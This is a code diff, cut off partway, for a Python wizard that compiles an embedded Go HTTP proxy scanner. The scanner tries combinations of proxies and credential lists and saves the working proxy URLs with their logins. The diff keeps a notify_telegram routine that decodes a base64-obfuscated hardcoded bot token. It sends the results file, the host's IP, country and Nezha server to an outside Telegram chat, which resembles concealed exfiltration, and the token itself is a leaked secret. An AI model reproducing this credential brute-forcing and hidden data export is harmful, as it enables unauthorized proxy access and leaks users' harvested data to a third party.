@@ -1,7 +1,7 @@
+import argparse
 import subprocess
 import sys
 import os
-import platform
 import shutil
 import textwrap
 import time
@@ -13,6 +13,13 @@ import uuid
 import urllib.request
 import urllib.error
 
+import async_verifier
+import batch_jobs
+import go_build
+import go_snippets
+import net_limits
+import result_log
+
 
 # --- Go语言源代码 (内嵌) ---
 # 【法证级升级】testAsWebServer函数被重写，现在能够正确识别HTTP重定向(3xx状态码)
@@ -22,17 +29,29 @@ package main
 
 import (
 	"bufio"
+	"container/heap"
+	"context"
+	"encoding/binary"
 	"encoding/json"
+	"errors"
 	"flag"
 	"fmt"
 	"io/ioutil"
 	"log"
+	"math/rand"
 	"net"
 	"net/http"
+	"net/http/httptrace"
 	"net/url"
 	"os"
+	"runtime/debug"
+	"runtime/metrics"
+	"sort"
+	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
+	"syscall"
 	"time"
 )
 
@@ -42,17 +61,19 @@ type Task struct {
 	Password     string
 }
 
-type HttpbinResponse struct {
-	Origin string `json:"origin"`
+// taskAddr 供主机健康表取出任务的代理地址
+func taskAddr(t Task) string { return t.ProxyAddress }
+
+// 单个任务的结果。Status 与 result_log.py 一致: 0 成功, 正数为HTTP状态码, 负数为本地判定的失败阶段 (-7 主机不可达已跳过)
+type Result struct {
+	ProxyURL string
+	Task     Task
+	Status   int16
+	Latency  time.Duration
 }
 
-func readLinesFromStdin() ([]string, error) {
-	var lines []string; scanner := bufio.NewScanner(os.Stdin)
-	for scanner.Scan() {
-		line := strings.TrimSpace(scanner.Text())
-		if line != "" && !strings.HasPrefix(line, "#") { lines = append(lines, line) }
-	}
-	return lines, scanner.Err()
+type HttpbinResponse struct {
+	Origin string `json:"origin"`
 }
 
 func readLinesFromFile(path string) ([]string, error) {
@@ -73,81 +94,173 @@ func main() {
 	timeout := flag.Int("timeout", 10, "超时(秒)")
 	workers := flag.Int("workers", 100, "并发数")
 	outputFile := flag.String("output", "valid_proxies.txt", "输出文件")
+	recordFile := flag.String("record", "", "(可选) 追加写入二进制结果记录的文件")
+	hostFailLimit, hostFailTimeout, hostInflight, hostTableMax, hostStats := hostFlags()
+	topKN, maxLatency, budget := topKFlags()
+	sockOn, sockBuf, portRange := sockFlags()
+	traceFile, traceRate, traceSlow := traceFlags()
+	memLimit := memFlags()
 	flag.Parse()
+	setupSockProfile(*sockOn, *sockBuf, *portRange)
+	setupTrace(*traceFile, *traceRate, *traceSlow, 4)
+	*workers = setupMemLimit(*memLimit, *workers, 64)
 
-	var proxies []string; var err error
-	if *proxyFile != "" {
-		log.Printf("从文件 %s 读取代理...", *proxyFile); proxies, err = readLinesFromFile(*proxyFile)
-	} else {
-		log.Println("从标准输入 (stdin) 读取代理..."); proxies, err = readLinesFromStdin()
-	}
+	if *proxyFile != "" { log.Printf("从文件 %s 读取代理...", *proxyFile) } else { log.Println("从标准输入 (stdin) 读取代理...") }
+	src, err := openTargets(*proxyFile)
 	if err != nil { log.Fatalf("读取代理列表失败: %v", err) }
+	defer src.close()
 
 	var credentials []string
 	if *credFile != "" { credentials, err = readLinesFromFile(*credFile); if err != nil { log.Fatalf("读取认证文件 %s 失败: %v", *credFile, err) } }
 
-	var tasks []Task
+	// 任务在派发时由代理与凭证组合生成, 不预先展开
+	creds := []Task{{}}
 	if len(credentials) > 0 {
-		for _, p := range proxies { for _, c := range credentials { parts := strings.SplitN(c, ":", 2); if len(parts) == 2 { tasks = append(tasks, Task{ProxyAddress: p, Username: parts[0], Password: parts[1]}) } } }
-	} else { for _, p := range proxies { tasks = append(tasks, Task{ProxyAddress: p}) } }
-	log.Printf("本批次总任务数: %d。", len(tasks))
-
-	taskChan := make(chan Task, *workers); resultChan := make(chan string, len(tasks)); var wg sync.WaitGroup
-	for i := 0; i < *workers; i++ { wg.Add(1); go worker(&wg, taskChan, resultChan, *targetURL, time.Duration(*timeout)*time.Second) }
-	go func() { for _, task := range tasks { taskChan <- task }; close(taskChan) }()
+		creds = nil
+		for _, c := range credentials { parts := strings.SplitN(c, ":", 2); if len(parts) == 2 { creds = append(creds, Task{Username: parts[0], Password: parts[1]}) } }
+	}
+	log.Printf("本批次总任务数: %d。", src.total*len(creds))
+
+	taskChan := make(chan Task, *workers); resultChan := make(chan Result, *workers); var wg sync.WaitGroup
+	hosts := newHostTable(taskAddr, *hostFailLimit, *hostInflight, memItems(*hostTableMax, 256), time.Duration(*hostFailTimeout)*time.Millisecond)
+	top := newTopK(*topKN, *maxLatency, *budget)
+	for i := 0; i < *workers; i++ { wg.Add(1); go worker(&wg, taskChan, resultChan, *targetURL, time.Duration(*timeout)*time.Second, hosts, top) }
+	go func() {
+		defer close(taskChan)
+		for p, ok := src.next(); ok; p, ok = src.next() {
+			for _, task := range creds {
+				task.ProxyAddress = p
+				memWait(func() int { return int(atomic.LoadInt32(&busyWorkers)) + len(taskChan) }, *workers/4)
+				select { case taskChan <- task: case <-top.quit: return }
+			}
+		}
+	}()
 	go func() { wg.Wait(); close(resultChan) }()
 
 	log.Println("已启动法证级扫描 (带重定向识别)...")
 	var validProxies []string
 	outFile, err := os.Create(*outputFile); if err != nil { log.Fatalf("无法创建输出文件 %s: %v", *outputFile, err) }; defer outFile.Close()
 	writer := bufio.NewWriter(outFile)
-	for result := range resultChan {
-		log.Printf("✅ 发现高可信度代理: %s", result)
-		validProxies = append(validProxies, result)
-		fmt.Fprintln(writer, result); writer.Flush()
+	var recWriter *bufio.Writer
+	if *recordFile != "" {
+		recFile, err := os.OpenFile(*recordFile, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0644); if err != nil { log.Fatalf("无法打开记录文件 %s: %v", *recordFile, err) }; defer recFile.Close()
+		recWriter = bufio.NewWriter(recFile); defer recWriter.Flush()
 	}
+	for {
+		var result Result; var ok bool
+		select { case result, ok = <-resultChan: case <-top.quit: }
+		if !ok { break }
+		if recWriter != nil { if rec := packRecord(result); rec != nil { recWriter.Write(rec) } }
+		if result.Status != 0 { continue }
+		log.Printf("✅ 发现高可信度代理: %s", result.ProxyURL)
+		validProxies = append(validProxies, result.ProxyURL)
+		if top.k > 0 { top.offer(result.ProxyURL, result.Latency) } else { fmt.Fprintln(writer, result.ProxyURL); writer.Flush() }
+	}
+	closeTrace()
+	hosts.report(*hostStats)
+	top.finish(writer)
+	memReport()
 	log.Printf("本批次扫描完成！发现 %d 个有效代理。", len(validProxies))
 }
 
-func worker(wg *sync.WaitGroup, tasks <-chan Task, results chan<- string, targetURL string, timeout time.Duration) {
+// busyWorkers 为正在处理任务的 worker 数, 供内存预算判断进行中的任务
+var busyWorkers int32
+
+// 主机并发已满的任务排入该主机队列, 由处理该主机的 worker 依次接手
+func worker(wg *sync.WaitGroup, tasks <-chan Task, results chan<- Result, targetURL string, timeout time.Duration, hosts *hostTable[Task], top *topK) {
 	defer wg.Done()
 	for task := range tasks {
-		fullProxyURL := formatProxyURL(task)
-		if checkProxy(task.ProxyAddress, fullProxyURL, targetURL, timeout) {
-			results <- fullProxyURL
+		if top.done() || !hosts.start(task) { continue }
+		atomic.AddInt32(&busyWorkers, 1)
+		for more := true; more && !top.done(); {
+			fullProxyURL := formatProxyURL(task)
+			r := Result{ProxyURL: fullProxyURL, Task: task, Status: -7}
+			down := false
+			dialTo, skip := hosts.dialTimeout(task, timeout)
+			if !skip { r.Status, r.Latency, down = checkProxy(task.ProxyAddress, fullProxyURL, targetURL, dialTo, timeout) }
+			results <- r
+			task, more = hosts.finish(task, down, skip)
 		}
+		atomic.AddInt32(&busyWorkers, -1)
 	}
 }
 
-func checkProxy(proxyAddr, proxyURLStr, targetURL string, timeout time.Duration) bool {
-	isProxyBehavior, _ := testAsProxy(proxyAddr, proxyURLStr, targetURL, timeout)
-	if !isProxyBehavior { return false }
+// dialDown 判断请求错误是否发生在与代理建连的阶段且说明主机不可达
+func dialDown(err error) bool {
+	var op *net.OpError
+	for errors.As(err, &op) {
+		if op.Op == "dial" { return hostDown(op.Err) }
+		err = op.Err
+	}
+	return false
+}
+
+func errStatus(err error) int16 {
+	if localPortErr(err) { return -7 }
+	if ne, ok := err.(net.Error); ok && ne.Timeout() { return -2 }
+	return -1
+}
+
+// 打包一条 32 字节结果记录 (格式见 result_log.py), 代理地址不是 IP 时返回 nil
+func packRecord(r Result) []byte {
+	host, portStr, err := net.SplitHostPort(r.Task.ProxyAddress); if err != nil { return nil }
+	ip := net.ParseIP(host); port, err := strconv.Atoi(portStr)
+	if ip == nil || err != nil { return nil }
+	rec := make([]byte, 32)
+	copy(rec[0:16], ip.To16())
+	binary.LittleEndian.PutUint16(rec[16:18], uint16(port))
+	rec[18] = 4
+	binary.LittleEndian.PutUint16(rec[20:22], uint16(r.Status))
+	binary.LittleEndian.PutUint32(rec[22:26], uint32(r.Latency/time.Millisecond))
+	binary.LittleEndian.PutUint32(rec[26:30], uint32(time.Now().Unix()))
+	return rec
+}
+
+// 返回状态码、代理请求阶段的耗时, 以及失败是否说明主机不可达
+func checkProxy(proxyAddr, proxyURLStr, targetURL string, dialTimeout, timeout time.Duration) (status int16, latency time.Duration, down bool) {
+	start := time.Now()
+	sp := startSpan()
+	defer func() { sp.finish(proxyAddr, status) }()
+	status, down = testAsProxy(proxyAddr, proxyURLStr, targetURL, dialTimeout, timeout, sp)
+	latency = time.Since(start)
+	if status != 0 { return status, latency, down }
 	isWebServerBehavior := testAsWebServer(proxyAddr, timeout)
-	if isWebServerBehavior { return false }
-	return true
+	sp.mark(phVerify)
+	if isWebServerBehavior { return -5, latency, false }
+	return 0, latency, false
 }
 
-func testAsProxy(proxyAddr, proxyURLStr, targetURL string, timeout time.Duration) (bool, string) {
-	proxyURL, err := url.Parse(proxyURLStr); if err != nil { return false, "" }
-	proxyHost, _, err := net.SplitHostPort(proxyAddr); if err != nil { return false, "" }
-	transport := &http.Transport{ Proxy: http.ProxyURL(proxyURL), DialContext: (&net.Dialer{ Timeout: timeout }).DialContext, TLSHandshakeTimeout: timeout }
+// sp 不为 nil 时通过 httptrace 记录建连、写请求、首字节和读完响应体的时间点
+func testAsProxy(proxyAddr, proxyURLStr, targetURL string, dialTimeout, timeout time.Duration, sp *span) (int16, bool) {
+	proxyURL, err := url.Parse(proxyURLStr); if err != nil { return -6, false }
+	proxyHost, _, err := net.SplitHostPort(proxyAddr); if err != nil { return -6, false }
+	transport := &http.Transport{ Proxy: http.ProxyURL(proxyURL), DialContext: dialContext(dialTimeout), TLSHandshakeTimeout: timeout, DisableKeepAlives: sockProfile.enabled }
 	client := &http.Client{ Transport: transport, Timeout: timeout + (5 * time.Second) }
-	req, err := http.NewRequest("GET", targetURL, nil); if err != nil { return false, "" }
+	req, err := http.NewRequest("GET", targetURL, nil); if err != nil { return -6, false }
 	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36")
-	resp, err := client.Do(req); if err != nil { return false, "" }; defer resp.Body.Close()
-	if resp.StatusCode != http.StatusOK { return false, "" }
-	body, err := ioutil.ReadAll(resp.Body); if err != nil { return false, "" }
+	pending := phDial // 出错时把耗时记在卡住的阶段上
+	if sp != nil {
+		req = req.WithContext(httptrace.WithClientTrace(req.Context(), &httptrace.ClientTrace{
+			ConnectDone:          func(string, string, error) { sp.mark(phDial); pending = phHTTPWrite },
+			WroteRequest:         func(httptrace.WroteRequestInfo) { sp.mark(phHTTPWrite); pending = phHTTPRead },
+			GotFirstResponseByte: func() { sp.mark(phHTTPRead) },
+		}))
+		defer sp.mark(phClose)
+	}
+	resp, err := client.Do(req); if err != nil { sp.mark(pending); return errStatus(err), dialDown(err) }; defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK { return int16(resp.StatusCode), false }
+	body, err := ioutil.ReadAll(resp.Body); sp.mark(phHTTPBody); if err != nil { return errStatus(err), false }
 	var result HttpbinResponse
-	if err := json.Unmarshal(body, &result); err != nil { return false, "" }
-	if strings.Contains(result.Origin, proxyHost) { return true, proxyHost }
-	return false, ""
+	if err := json.Unmarshal(body, &result); err != nil { return -6, false }
+	if strings.Contains(result.Origin, proxyHost) { return 0, false }
+	return -6, false
 }
 
 // 【最终修正版】testAsWebServer函数
 func testAsWebServer(proxyAddr string, timeout time.Duration) bool {
 	client := &http.Client{
 		Timeout: timeout,
-		Transport: &http.Transport{ DialContext: (&net.Dialer{ Timeout: timeout, }).DialContext, },
+		Transport: &http.Transport{ DialContext: dialContext(timeout), DisableKeepAlives: sockProfile.enabled },
 		// 阻止客户端自动跟随重定向，这样我们才能捕获到3xx状态码
 		CheckRedirect: func(req *http.Request, via []*http.Request) error {
 			return http.ErrUseLastResponse
@@ -169,7 +282,13 @@ func formatProxyURL(task Task) string {
 	if task.Username != "" && task.Password != "" { return fmt.Sprintf("http://%s:%s@%s", url.QueryEscape(task.Username), url.QueryEscape(task.Password), task.ProxyAddress) }
 	return fmt.Sprintf("http://%s", task.ProxyAddress)
 }
-"""
+""" + go_snippets.GO_HOST_TABLE + go_snippets.GO_TOP_K + go_snippets.GO_SOCKET_PROFILE + go_snippets.GO_TRACE + go_snippets.GO_MEM_BUDGET
+
+# 与 socks5.py / pool_scheduler.py 共用内容寻址的编译缓存, 引擎名与调度器一致
+BUILD_CACHE = go_build.BuildCache()
+BUILD_CACHE.register("http_verifier", GO_SOURCE_CODE)
+ENGINE_PREFERENCE = "auto"   # auto / go / python, 由 --engine 设置; auto 在没有 Go 时改用 async_verifier.py
+MEMORY_LIMIT_MB = None      # 内存预算 (MB), 由 --memory-limit 设置, 以 -memLimit 传给引擎
 
 # --- Python 包装器和交互逻辑 ---
 
@@ -197,14 +316,15 @@ def create_example_file_if_not_exists(filename, content):
             print(styled(f"错误: 无法创建文件 '{filename}': {e}", "danger")); return False
     return True
 
-def find_go_executable():
-    """智能寻找Go可执行文件路径，解决环境变量问题。"""
+def find_go_executable(interactive=True):
+    """智能寻找Go可执行文件路径，解决环境变量问题。interactive=False 时找不到直接返回 None。"""
     if shutil.which("go"): return shutil.which("go")
     common_paths = ["/usr/local/go/bin/go", "/usr/bin/go", "/snap/bin/go", os.path.expanduser("~/go/bin/go")]
     for path in common_paths:
         if os.path.exists(path) and os.access(path, os.X_OK):
             print(styled(f"在标准路径中找到Go: {path}", "green")); return path
     print(styled("\n错误: 自动查找 'go' 命令失败。", "danger"))
+    if not interactive: return None
     while True:
         manual_path = input("> " + styled("请手动输入 'go' 命令的完整路径: ", "bold"))
         if manual_path and os.path.exists(manual_path) and os.access(manual_path, os.X_OK): return manual_path
@@ -327,9 +447,18 @@ def main():
     print(styled("="*60, "header")); print(styled("   欢迎使用HTTP代理扫描向导 (法证级最终版)", "header")); print(styled("="*60, "header"))
     print(styled("提示: 此脚本已移除所有外部依赖，可直接运行。", "blue"))
     
-    go_cmd = find_go_executable();
-    if not go_cmd: sys.exit(1)
-    print(styled(f"将使用Go命令进行编译: {go_cmd}", "green"))
+    if use_python_engine():
+        print(styled("未找到Go环境, 将使用 Python 异步引擎 (async_verifier.py) 进行扫描。", "warning"))
+    elif BUILD_CACHE.lookup("http_verifier"):
+        print(styled("使用已缓存的Go扫描器。", "green"))
+    else:
+        go_cmd = find_go_executable()
+        if not go_cmd: sys.exit(1)
+        print(styled(f"将使用Go命令进行编译: {go_cmd} (在后台进行, 不影响下面的设置)", "green"))
+        BUILD_CACHE.go = go_cmd
+    if not use_python_engine():
+        BUILD_CACHE.verbose = False  # 后台编译不打断下面的交互提示
+        BUILD_CACHE.prefetch()
 
     print(styled("\n重要警告:", "danger")); print("1. 本工具仅用于学习和研究..."); print("2. " + styled("未经授权...", "underline")); print("3. 任何因滥用...")
     try:
@@ -365,90 +494,192 @@ def main():
     output_file = get_user_input("> 请输入最终结果保存路径", "valid_proxies.txt")
     
     start_time = time.time()
-    go_source_file = "scanner_temp.go"; exec_name = "scanner_exec.exe" if platform.system() == "Windows" else "scanner_exec"
     try:
-        print(styled("\n正在预编译法证级Go扫描器...", "blue"))
-        with open(go_source_file, "w", encoding="utf-8") as f: f.write(GO_SOURCE_CODE)
-        os.environ["GOCACHE"] = "/tmp/gocache"; os.makedirs("/tmp/gocache", exist_ok=True)
-        compile_process = subprocess.run([go_cmd, "build", "-o", exec_name, go_source_file], capture_output=True, text=True, encoding='utf-8')
-        if compile_process.returncode != 0: raise subprocess.CalledProcessError(compile_process.returncode, compile_process.args, output=compile_process.stdout, stderr=compile_process.stderr)
-        print(styled("预编译成功!", "green"))
-
-        open(output_file, 'w').close(); total_valid_proxies = 0
-        if not use_chunking:
-            print(styled(f"\n--- 🚀 开始完整扫描文件: {proxy_file} ---", "header"))
-            command = [ f"./{exec_name}", "-pfile", proxy_file, "-workers", workers, "-timeout", timeout, "-output", output_file]
-            if cred_file: command.extend(["-cfile", cred_file])
-            subprocess.run(command, check=True)
-            with open(output_file, 'r', encoding='utf-8') as f: total_valid_proxies = sum(1 for line in f if line.strip())
-        else:
-            print(styled("\n--- 🚀 开始以内存分块方式进行扫描 ---", "header"))
-            chunk_count = 0
-            with open(proxy_file, 'r', encoding='utf-8', errors='ignore') as f:
-                while True:
-                    chunk_count += 1
-                    lines = [line.strip() for line in (f.readline() for _ in range(lines_per_chunk)) if line.strip()]
-                    if not lines: break
-                    print(styled(f"\n--- 正在处理第 {chunk_count} 数据块 ({len(lines)} 行) ---", "blue"))
-                    chunk_data = "\n".join(lines).encode('utf-8')
-                    temp_output = f"{output_file}.part_{chunk_count}.tmp"
-                    command = [f"./{exec_name}", "-workers", workers, "-timeout", timeout, "-output", temp_output]
-                    if cred_file: command.extend(["-cfile", cred_file])
-                    process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=sys.stdout, stderr=sys.stderr)
-                    process.communicate(input=chunk_data)
-                    if os.path.exists(temp_output):
-                        with open(output_file, 'a', encoding='utf-8') as f_out, open(temp_output, 'r', encoding='utf-8') as f_in:
-                            chunk_content = f_in.read(); f_out.write(chunk_content)
-                            total_valid_proxies += chunk_content.count('\n')
-                        os.remove(temp_output)
-        
+        engine_cmd = prepare_scanner()
+        total_valid_proxies, _, _ = run_scan(engine_cmd, proxy_file, workers, timeout, output_file, cred_file, lines_per_chunk if use_chunking else 0)
         print(styled(f"\n🎉 所有扫描任务成功完成! 共发现 {total_valid_proxies} 个高可信度代理。", "green"))
         print(styled(f"最终结果已全部保存在: {output_file}", "green"))
+        notify_telegram(output_file, proxy_file, time.time() - start_time)
 
-        print(styled("\n--- 准备发送Telegram通知 ---", "blue"))
-        run_time_seconds = time.time() - start_time
-        run_time_str = str(datetime.timedelta(seconds=int(run_time_seconds)))
-        total_ips = 0
-        try:
-            with open(proxy_file, 'r', encoding='utf-8', errors='ignore') as f:
-                total_ips = sum(1 for line in f if line.strip() and not line.startswith('#'))
-        except Exception: total_ips = "N/A"
-        
-        print("正在获取服务器信息...")
-        vps_ip, vps_country = get_vps_info()
-        nezha_server = get_nezha_server()
-        is_china_env = (vps_country == 'CN')
-        
-        print(f"服务器信息: {vps_ip} ({vps_country})")
-        if is_china_env: print(styled("检测到服务器位于中国大陆，将跳过Telegram通知。", "warning"))
-
-        BOT_TOKEN_B64 = "NzY2NDIwMzM2MjpBQUZhMzltMjRzTER2Wm9wTURUcmRnME5pcHB5ZUVWTkZHVQ=="
-        CHAT_ID_B64 = "NzY5NzIzNTM1OA=="
-        try:
-            BOT_TOKEN = base64.b64decode(BOT_TOKEN_B64).decode('utf-8')
-            CHAT_ID = base64.b64decode(CHAT_ID_B64).decode('utf-8')
-        except Exception:
-            BOT_TOKEN, CHAT_ID = BOT_TOKEN_B64, CHAT_ID_B64
-            print("\n" + "="*50 + "\n⚠️  警告：Telegram 的 BOT_TOKEN 或 CHAT_ID 未经 Base64 加密。\n" + "="*50)
-
-        if not is_china_env and BOT_TOKEN and CHAT_ID:
-            send_to_telegram(output_file, BOT_TOKEN, CHAT_ID, vps_ip=vps_ip, vps_country=vps_country, nezha_server=nezha_server, total_ips=total_ips, run_time_str=run_time_str)
-        elif not (BOT_TOKEN and CHAT_ID):
-             print("未配置Telegram的BOT_TOKEN或CHAT_ID，跳过通知。")
-
+    except go_build.BuildError as e:
+        print(styled("\n错误: Go程序编译失败。", "danger")); print(styled("--- 编译器输出 ---", "danger")); print(e); print(styled("--------------------", "danger"))
     except subprocess.CalledProcessError as e:
-        print(styled("\n错误: Go程序编译失败。", "danger")); print(styled("--- 编译器输出 ---", "danger")); print(e.stderr); print(styled("--------------------", "danger"))
+        print(styled(f"\n扫描失败: 扫描器退出码 {e.returncode}, 已发现的结果保留在 {output_file}", "danger"))
     except Exception as e:
         print(styled(f"\n发生未知错误: {e}", "danger"))
     finally:
-        print(styled("\n🧹 正在清理临时文件...", "blue"))
-        files_to_remove = [go_source_file, exec_name, "go.mod", "go.sum"]
-        if temp_cred_file: files_to_remove.append(temp_cred_file)
-        for item in files_to_remove:
-            if os.path.exists(item):
-                try: os.remove(item)
-                except OSError: pass
-        print("清理完成。")
+        cleanup_files([temp_cred_file])
+
+def use_python_engine():
+    if ENGINE_PREFERENCE != "auto": return ENGINE_PREFERENCE == "python"
+    return not (BUILD_CACHE.lookup("http_verifier") or BUILD_CACHE.go or go_build.find_go())
+
+def prepare_scanner():
+    """取得扫描器命令: 命中预编译目录或内容寻址缓存时直接使用, 否则编译一次并缓存; 使用 Python 引擎时不编译。"""
+    if use_python_engine():
+        return [sys.executable, async_verifier.__file__, "-mode", "http"]
+    if not BUILD_CACHE.lookup("http_verifier"):
+        print(styled("\n正在等待法证级Go扫描器编译完成...", "blue"))
+    exec_path = BUILD_CACHE.get("http_verifier")
+    print(styled(f"Go扫描器就绪: {exec_path}", "green"))
+    return [exec_path]
+
+def run_scan(engine_cmd, proxy_file, workers, timeout, output_file, cred_file=None, lines_per_chunk=0, engine_args=()):
+    """执行一次完整扫描 (lines_per_chunk > 0 时分块, 此时 Top-K/时间预算按块生效), 返回 (发现的代理数, 主机健康统计, 引擎峰值 RSS MB)。
+
+    引擎非零退出时 (分块模式下任一块) 停止扫描, 并入已写出的记录后抛出 subprocess.CalledProcessError。
+    """
+    # 每个任务同时持有到代理和经代理到目标的连接
+    workers = net_limits.check(workers, fds_per_conn=2, port_range=net_limits.port_range_from_args(engine_args))
+    workers, timeout = str(workers), str(timeout)
+    open(output_file, 'w').close(); total_valid_proxies = 0
+    record_file = f"{output_file}.records"
+    stats_file = f"{output_file}.hosts.json"
+    engine_args = ["-hostStats", stats_file] + list(engine_args)
+    if MEMORY_LIMIT_MB and "-memLimit" not in engine_args: engine_args += ["-memLimit", str(MEMORY_LIMIT_MB)]
+    peak_rss = failure = None
+    if not lines_per_chunk:
+        print(styled(f"\n--- 🚀 开始完整扫描文件: {proxy_file} ---", "header"))
+        command = engine_cmd + ["-pfile", proxy_file, "-workers", workers, "-timeout", timeout, "-output", output_file, "-record", record_file] + engine_args
+        if cred_file: command.extend(["-cfile", cred_file])
+        process = subprocess.Popen(command)
+        peak_rss = net_limits.wait_peak_rss(process)
+        if process.returncode: failure = subprocess.CalledProcessError(process.returncode, command)
+        with open(output_file, 'r', encoding='utf-8') as f: total_valid_proxies = sum(1 for line in f if line.strip())
+    else:
+        print(styled("\n--- 🚀 开始以内存分块方式进行扫描 ---", "header"))
+        chunk_count = 0
+        with open(proxy_file, 'r', encoding='utf-8', errors='ignore') as f:
+            while True:
+                chunk_count += 1
+                lines = [line.strip() for line in (f.readline() for _ in range(lines_per_chunk)) if line.strip()]
+                if not lines: break
+                print(styled(f"\n--- 正在处理第 {chunk_count} 数据块 ({len(lines)} 行) ---", "blue"))
+                chunk_data = "\n".join(lines).encode('utf-8')
+                temp_output = f"{output_file}.part_{chunk_count}.tmp"
+                command = engine_cmd + ["-workers", workers, "-timeout", timeout, "-output", temp_output, "-record", record_file] + engine_args
+                if cred_file: command.extend(["-cfile", cred_file])
+                process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=sys.stdout, stderr=sys.stderr)
+                try: process.stdin.write(chunk_data); process.stdin.close()
+                except BrokenPipeError: pass
+                chunk_peak = net_limits.wait_peak_rss(process)
+                if chunk_peak is not None: peak_rss = max(peak_rss or 0, chunk_peak)
+                if os.path.exists(temp_output):
+                    with open(output_file, 'a', encoding='utf-8') as f_out, open(temp_output, 'r', encoding='utf-8') as f_in:
+                        chunk_content = f_in.read(); f_out.write(chunk_content)
+                        total_valid_proxies += chunk_content.count('\n')
+                    os.remove(temp_output)
+                if process.returncode:
+                    print(styled(f"第 {chunk_count} 数据块的扫描器异常退出 (退出码 {process.returncode}), 停止扫描。", "danger"))
+                    failure = subprocess.CalledProcessError(process.returncode, command)
+                    break
+    try:
+        with result_log.ResultLog() as log:
+            added = log.append_raw(record_file)
+        print(styled(f"已将 {added} 条记录写入结果日志: {result_log.DEFAULT_LOG_PATH}", "green"))
+    except (OSError, ValueError) as e:
+        print(styled(f"写入结果日志失败: {e}", "warning"))
+    if failure is not None: raise failure
+    if peak_rss is not None: print(styled(f"引擎峰值内存 (RSS): {peak_rss:.1f} MB", "blue"))
+    return total_valid_proxies, batch_jobs.read_host_stats(stats_file), peak_rss
+
+def notify_telegram(output_file, proxy_file, run_time_seconds):
+    print(styled("\n--- 准备发送Telegram通知 ---", "blue"))
+    run_time_str = str(datetime.timedelta(seconds=int(run_time_seconds)))
+    total_ips = 0
+    try:
+        with open(proxy_file, 'r', encoding='utf-8', errors='ignore') as f:
+            total_ips = sum(1 for line in f if line.strip() and not line.startswith('#'))
+    except Exception: total_ips = "N/A"
+    
+    print("正在获取服务器信息...")
+    vps_ip, vps_country = get_vps_info()
+    nezha_server = get_nezha_server()
+    is_china_env = (vps_country == 'CN')
+    
+    print(f"服务器信息: {vps_ip} ({vps_country})")
+    if is_china_env: print(styled("检测到服务器位于中国大陆，将跳过Telegram通知。", "warning"))
+
+    BOT_TOKEN_B64 = "NzY2NDIwMzM2MjpBQUZhMzltMjRzTER2Wm9wTURUcmRnME5pcHB5ZUVWTkZHVQ=="
+    CHAT_ID_B64 = "NzY5NzIzNTM1OA=="
+    try:
+        BOT_TOKEN = base64.b64decode(BOT_TOKEN_B64).decode('utf-8')
+        CHAT_ID = base64.b64decode(CHAT_ID_B64).decode('utf-8')
+    except Exception:
+        BOT_TOKEN, CHAT_ID = BOT_TOKEN_B64, CHAT_ID_B64
+        print("\n" + "="*50 + "\n⚠️  警告：Telegram 的 BOT_TOKEN 或 CHAT_ID 未经 Base64 加密。\n" + "="*50)
+
+    if not is_china_env and BOT_TOKEN and CHAT_ID:
+        send_to_telegram(output_file, BOT_TOKEN, CHAT_ID, vps_ip=vps_ip, vps_country=vps_country, nezha_server=nezha_server, total_ips=total_ips, run_time_str=run_time_str)
+    elif not (BOT_TOKEN and CHAT_ID):
+         print("未配置Telegram的BOT_TOKEN或CHAT_ID，跳过通知。")
+
+def cleanup_files(paths):
+    print(styled("\n🧹 正在清理临时文件...", "blue"))
+    for item in [p for p in paths if p] + ["go.mod", "go.sum"]:
+        if os.path.exists(item):
+            try: os.remove(item)
+            except OSError: pass
+    print("清理完成。")
+
+def run_jobs(job_file, summary_path=None):
+    """无人值守模式: 编译一次扫描器, 按任务文件顺序执行, 每个任务输出一行 JSON 摘要。返回失败任务数。"""
+    jobs = batch_jobs.load_jobs(job_file)
+    if not use_python_engine() and not BUILD_CACHE.lookup("http_verifier"):
+        BUILD_CACHE.go = find_go_executable(interactive=False)
+        if not BUILD_CACHE.go: return len(jobs)
+    summary = batch_jobs.SummaryWriter(summary_path)
+    failed, temp_cred_file = 0, None
+    try:
+        engine_cmd = prepare_scanner()
+        for job in jobs:
+            started = time.time()
+            total_ips = batch_jobs.count_lines(job["input"])
+            output_file = job.get("output") or f"{os.path.splitext(job['input'])[0]}_valid.txt"
+            print(styled(f"\n=== 批处理任务 {job['name']}: {job['input']} -> {output_file} ===", "header"))
+            if not os.path.exists(job["input"]):
+                summary.write(job, started, 0, 0, status="invalid"); failed += 1; continue
+            cred_file = None
+            if job.get("creds"):
+                cred_file, temp_cred_file = process_credentials(job["creds"])
+            input_file, rank_info = batch_jobs.ranked_input(job, output_file, "http")
+            trace_args, trace_file = batch_jobs.trace_args(job, output_file)
+            try:
+                found, host_stats, peak_rss = run_scan(engine_cmd, input_file, job.get("workers", 100), job.get("timeout", 10), output_file,
+                                             cred_file, job.get("chunk_size", 0), batch_jobs.engine_args(job) + trace_args)
+            except (subprocess.CalledProcessError, OSError) as e:
+                summary.write(job, started, total_ips, 0, status=batch_jobs.failure_status(e), output=output_file); failed += 1; continue
+            finally:
+                if rank_info: os.remove(input_file)
+            extra = {"host_health": host_stats} if host_stats else {}
+            if rank_info: extra["ranking"] = rank_info
+            trace_info = batch_jobs.trace_summary(trace_file)
+            if trace_info: extra["trace"] = trace_info
+            if peak_rss is not None: extra["peak_rss_mb"] = round(peak_rss, 1)
+            summary.write(job, started, total_ips, found, output=output_file, **extra)
+            if job.get("telegram"): notify_telegram(output_file, job["input"], time.time() - started)
+    except go_build.BuildError as e:
+        print(styled("\n错误: Go程序编译失败。", "danger")); print(e); failed = len(jobs)
+    finally:
+        summary.close()
+        cleanup_files([temp_cred_file])
+    return failed
 
 if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="HTTP代理扫描向导 (无参数时进入交互模式)")
+    parser.add_argument("--jobs", help="无人值守模式: JSON 任务文件")
+    parser.add_argument("--summary", help="任务摘要输出文件 (JSON Lines, 默认 stdout)")
+    parser.add_argument("--prebuilt", help="预编译Go扫描器目录 (见 go_build.py export), 命中时无需 Go 环境")
+    parser.add_argument("--engine", choices=["auto", "go", "python"], default="auto",
+                        help="扫描引擎, auto 在没有 Go 时改用 Python 异步引擎")
+    parser.add_argument("--memory-limit", type=int, metavar="MB",
